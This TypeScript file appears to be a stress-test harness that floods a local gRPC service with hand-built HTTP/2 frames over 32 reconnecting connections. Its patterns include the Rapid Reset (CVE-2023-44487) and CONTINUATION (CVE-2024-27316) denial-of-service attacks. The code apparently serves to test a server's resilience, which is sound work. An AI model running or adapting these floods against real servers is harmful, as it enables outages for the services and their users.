// A user who sends HTTP/2 frames as fast as he can: `node flood.ts SOCKET KIND`, on 32 connections, until he is killed. Prints `begun` when all are open.
// A connection that is closed is made anew.
import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';

const CONNECTIONS = 32;
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
/** One frame. Source: RFC 9113, section 4.1. */
const frame = (type: number, flags: number, stream: number, payload: Uint8Array = Buffer.alloc(0)): Buffer => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};
const SETTINGS = frame(4, 0, 0);
/** A literal header without indexing. Source: RFC 7541, section 6.2.2. */
const literal = (name: string, value: string): Buffer => {
  const length = (size: number): Buffer => {
    if (size < 127) return Buffer.from([size]);
    const bytes = [127];
    let rest = size - 127;
    for (; rest >= 128; rest = Math.floor(rest / 128)) bytes.push((rest % 128) + 128);
    return Buffer.from([...bytes, rest]);
  };
  return Buffer.concat([
    Buffer.from([0]),
    length(name.length),
    Buffer.from(name),
    length(value.length),
    Buffer.from(value),
  ]);
};
const REQUEST = Buffer.concat([
  literal(':method', 'POST'),
  literal(':scheme', 'http'),
  literal(':path', '/berth.helper.v1.HelperService/Do'),
  literal(':authority', 'x'),
  literal('content-type', 'application/grpc'),
  literal('te', 'trailers'),
]);
const [HEADERS, RST, PING, WINDOW, CONTINUATION] = [1, 3, 6, 8, 9];
const [END_STREAM, END_HEADERS] = [1, 4];
/** What each kind sends, over and over, on every connection. */
export const FLOODS: Readonly<Record<string, (stream: number) => Buffer>> = {
  'streams that are reset at once (CVE-2023-44487)': (stream) =>
    Buffer.concat([frame(HEADERS, END_HEADERS, stream, REQUEST), frame(RST, 0, stream, Buffer.alloc(4))]),
  'streams whose body never comes': (stream) => frame(HEADERS, END_HEADERS, stream, REQUEST),
  'streams that end without a body': (stream) => frame(HEADERS, END_HEADERS | END_STREAM, stream, REQUEST),
  pings: () => frame(PING, 0, 0, Buffer.alloc(8)),
  settings: () => frame(4, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff])),
  'headers that never end (CVE-2024-27316)': (stream) =>
    stream === 1 ? frame(HEADERS, 0, 1, REQUEST) : frame(CONTINUATION, 0, 1, literal(`x-${stream}`, 'y'.repeat(8000))),
  'large headers': (stream) =>
    frame(HEADERS, END_HEADERS, stream, Buffer.concat([REQUEST, literal('x', 'y'.repeat(15_000))])),
  windows: (stream) => frame(WINDOW, 0, 0, Buffer.from([0, 0, 0, 1 + (stream % 2)])),
  'frames of no known kind': (stream) => frame(0x77, 0xff, stream, randomBytes(100)),
  anything: () => randomBytes(1000),
};

function flood(path: string, next: (stream: number) => Buffer, begun: () => void): void {
  const socket = connect(path, begun);
  socket.on('error', () => {});
  socket.on('close', () => setTimeout(() => flood(path, next, () => {}), 10));
  socket.resume();
  socket.write(Buffer.concat([PREFACE, SETTINGS]));
  let stream = 1;
  const more = (): void => {
    for (let ok = true; ok && !socket.destroyed; stream += 2) ok = socket.write(next(stream));
  };
  socket.on('drain', more);
  more();
}

if (process.argv[1]?.endsWith('flood.ts')) {
  const [, , path = '', kind = ''] = process.argv;
  const next = FLOODS[kind];
  if (next === undefined) throw new Error(`no flood of ${kind}`);
  let open = 0;
  for (let i = 0; i < CONNECTIONS; i++)
    flood(path, next, () => ++open === CONNECTIONS && process.stdout.write('begun\n'));
}
